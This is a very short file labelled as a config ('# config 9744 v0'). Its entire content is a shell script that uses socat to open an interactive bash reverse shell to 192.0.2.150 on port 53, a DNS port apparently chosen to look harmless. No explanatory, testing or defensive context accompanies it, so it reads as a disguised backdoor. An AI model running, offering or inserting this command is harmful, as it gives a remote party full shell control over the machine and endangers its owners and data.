# config 9744 v0
#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.150:53
